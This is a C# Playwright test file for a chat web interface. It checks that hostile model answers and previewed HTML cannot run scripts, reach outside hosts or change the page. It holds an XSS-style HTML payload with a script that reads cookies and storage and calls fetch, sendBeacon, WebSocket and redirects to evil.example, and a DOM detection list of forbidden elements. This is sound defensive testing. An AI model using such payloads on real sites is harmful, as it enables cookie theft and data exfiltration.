using Microsoft.Playwright;
using OpenWebUi.StubProvider;
using static Microsoft.Playwright.Assertions;

namespace OpenWebUi.Tests.Browser;

/// <summary>
/// A model repeats what it has read, so an answer may hold anything. Foreign requests, dialogs, errors and violations of the
/// policy fail in <see cref="BrowserTest"/>; the payloads are in hostile-answers.txt, between lines of equal signs.
/// </summary>
public sealed class HostileAnswerTests(BrowserFixture fixture) : BrowserTest(fixture)
{
    private const int PayloadsInAnAnswer = 80;

    private static readonly string[] Payloads =
        File.ReadAllText(Path.Combine(Repository, "tests", "OpenWebUi.Tests", "Browser", "hostile-answers.txt")).TrimEnd('\n').Split("\n==========\n");

    [Fact]
    public async Task Answers_OfEveryHostileKind_RunNothingFetchNothingAndStayInTheirPlace()
    {
        Assert.True(Payloads.Length >= 200 && Payloads.Distinct().Count() == Payloads.Length, $"{Payloads.Length} payloads");
        await using var stub = await StubServer.StartAsync();
        await using var site = await StartSiteAsync(("BASE_URL", stub.BaseUrl), ("OPENAI_API_KEY", "sk-site"), ("ENABLE_TITLE_GENERATION", "false"));
        var page = await OpenAsync(site, options: new() { ViewportSize = new() { Width = 1280, Height = 1600 } });
        stub.ReplyText = "A harmless answer.";
        await SendAsync(page, "go");
        await Expect(Answer(page, "done")).ToContainTextAsync("A harmless answer.");
        await Expect(page.GetByTestId("chat")).ToHaveCountAsync(1);
        await Expect(page.GetByTestId("chat-tools")).ToBeVisibleAsync();
        await page.Mouse.MoveAsync(640, 5);
        var around = await AroundAsync(page);

        var number = 0;
        foreach (var group in Payloads.Chunk(PayloadsInAnAnswer))
        {
            var first = number;
            stub.ReplyText = string.Concat(group.Select(payload => $"{payload}\n\nPayload {number++} is over.\n\n"));
            await SendAsync(page, "go");
            await Expect(Answer(page, "done")).ToContainTextAsync($"Payload {number - 1} is over.");
            // None has swallowed what comes after it.
            var seen = await Answer(page, "done").Locator("p").AllInnerTextsAsync();
            Assert.Equal(Enumerable.Range(first, group.Length).Select(n => $"Payload {n} is over."), seen.Where(text => text.EndsWith("is over.", StringComparison.Ordinal)));
            await DrawnAsync(page);
            var found = await page.EvaluateAsync<string[]>(Search);
            Assert.True(found.Length == 0, $"left in the page:\n{string.Join('\n', found)}");
            await page.Mouse.MoveAsync(640, 5);
            Assert.Equal(around, await AroundAsync(page));
        }

        await page.ReloadAsync();
        await Expect(Answer(page, "done")).ToBeVisibleAsync();
        await DrawnAsync(page);
        Assert.Empty(await page.EvaluateAsync<string[]>(Search));
    }

    [Fact]
    public async Task Preview_OfHostileHtml_RunsNothingUntilAskedAndReachesNothingEver()
    {
        // What the reader opens may try: the policies of its frame refuse, and say so.
        Tolerates = _ => true;
        const string Html =
            """
            <meta http-equiv=refresh content="0;url=https://evil.example/refresh">
            <base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/s.css">
            <style>p { background: url(https://evil.example/bg.png) } @import 'https://evil.example/i.css';</style>
            <p>Shown</p><img src="https://evil.example/i.png" onerror="parent.postMessage('handler', '*')">
            <iframe src="https://evil.example/f"></iframe><form id=f action="https://evil.example/form"><input name=x></form>
            <a id=a href="https://evil.example/a" target=_top>x</a>
            <script>
              const tried = [];
              const attempt = (name, act) => { try { act(); tried.push(name); } catch { } };
              attempt('cookie', () => document.cookie);
              attempt('storage', () => localStorage.length);
              attempt('parent', () => parent.document.title);
              attempt('top', () => { top.location = 'https://evil.example/top'; });
              open('https://evil.example/open');
              document.getElementById('f').submit();
              document.getElementById('a').click();
              fetch('https://evil.example/fetch').catch(() => {});
              fetch('/api/config').then(() => parent.postMessage('api', '*'), () => {});
              navigator.sendBeacon('https://evil.example/beacon');
              try { new WebSocket('wss://evil.example/ws'); } catch { }
              parent.postMessage('ran ' + tried.join(), '*');
              setTimeout(() => { location = 'https://evil.example/navigate'; parent.postMessage('end', '*'); }, 300);
            </script>
            """;
        await using var stub = await StubServer.StartAsync();
        await using var site = await StartSiteAsync(("BASE_URL", stub.BaseUrl), ("OPENAI_API_KEY", "sk-site"));
        var page = await OpenAsync(site);
        stub.ReplyText = $"```html\n{Html}\n```\n\nThe end.";
        await SendAsync(page, "go");
        await Expect(Answer(page, "done")).ToContainTextAsync("The end.");
        await page.EvaluateAsync("() => { window.heard = []; addEventListener('message', e => { if (typeof e.data === 'string') heard.push(e.data + ' ' + e.origin) }) }");
        await page.GetByTestId("code-preview").ClickAsync();
        await Expect(page.GetByTestId("html-preview").Locator("iframe")).ToHaveAttributeAsync("sandbox", "allow-scripts");
        await Expect(page.FrameLocator("[data-testid=html-preview] iframe").GetByText("Shown")).ToBeVisibleAsync();
        Assert.Empty(await page.EvaluateAsync<string[]>("() => heard"));

        await page.GetByTestId("preview-run").ClickAsync();
        await EventuallyAsync(() => page.EvaluateAsync<bool>("() => heard.some(m => m.startsWith('end'))"), "the script ran to its end");
        Assert.Equal("handler null,ran  null", string.Join(',', (await page.EvaluateAsync<string[]>("() => heard")).Where(m => !m.StartsWith("end", StringComparison.Ordinal)).Order(StringComparer.Ordinal)));
        Assert.Equal(site.Address.Port, new Uri(page.Url).Port);
        Assert.Single(page.Context.Pages);
    }

    /// <summary>Every diagram is shown or has failed.</summary>
    private static async Task DrawnAsync(IPage page)
    {
        foreach (var diagram in await page.GetByTestId("diagram").AllAsync())
        {
            await diagram.ScrollIntoViewIfNeededAsync();
            await Expect(diagram).Not.ToHaveAttributeAsync("data-state", "drawing");
        }
    }

    /// <summary>What stands around the conversation: elements with what dresses them, and where the main ones are.</summary>
    private static Task<string> AroundAsync(IPage page) => page.EvaluateAsync<string>(
        """
        () => {
          const lines = [document.title, location.pathname, document.baseURI, String(document.cookie), document.head.querySelectorAll('meta,base,title').length];
          for (const e of document.querySelectorAll('body, body *')) {
            if (e.closest('[data-testid=message], .diagram-frame, [aria-live], [data-testid=jump-latest], time')) continue;
            lines.push([e.localName, e.id, e.className?.baseVal ?? e.className, e.getAttribute('style'), e.getAttribute('href'), e.dataset.testid].join('|'));
          }
          for (const id of ['composer-input', 'composer-send', 'chat', 'model-picker']) {
            const e = document.querySelector(`[data-testid=${id}]`), at = e.getBoundingClientRect(), style = getComputedStyle(e);
            lines.push([id, at.x, at.y, at.width, at.height, style.color, style.backgroundImage, style.fontFamily].join('|'));
            const top = document.elementFromPoint(at.x + at.width / 2, at.y + at.height / 2);
            if (!(e.contains(top) || top?.contains(e) || id === 'chat')) lines.push('covered by ' + top?.outerHTML);
          }
          return lines.join('\n');
        }
        """);

    private const string Search =
        """
        () => {
          const bad = [];
          for (const answer of document.querySelectorAll('[data-testid=message]')) {
            const forbidden = 'script,iframe,object,embed,form,link,style,meta,base,video,audio,source,template,textarea,select,dialog,picture,area,map,foreignobject,[style*=fixed],[style*=url],[id],[popover],[data-testid=composer-send]';
            for (const e of answer.querySelectorAll(forbidden)) bad.push(e.outerHTML);
            for (const e of answer.querySelectorAll('.prose *')) {
              for (const a of e.attributes) {
                if (/^on|^ping$|^srcdoc$|^srcset$|^formaction$/.test(a.name)) bad.push(a.name + ' on ' + e.outerHTML);
                if (/^(href|src|xlink:href|action)$/.test(a.name) && !/^(https?:|mailto:|tel:|data:image\/(png|svg\+xml,))/i.test(a.value)) bad.push(a.name + '=' + a.value);
              }
              if (e.matches('img') && !/^data:image\//.test(e.src)) bad.push(e.outerHTML);
              if (e.matches('img[src^="data:image/svg"]') && !e.closest('[data-testid=diagram]')) bad.push(e.outerHTML);
              if (e.matches('a[href]') && (e.target !== '_blank' || !/noopener/.test(e.rel) || !/noreferrer/.test(e.rel))) bad.push('no rel: ' + e.outerHTML);
            }
          }
          for (const frame of document.querySelectorAll('iframe')) if (frame.getAttribute('sandbox') !== 'allow-scripts') bad.push(frame.outerHTML);
          if ('pwned' in window || 'pwned' in Object.prototype) bad.push('a script ran');
          return bad;
        }
        """;
}
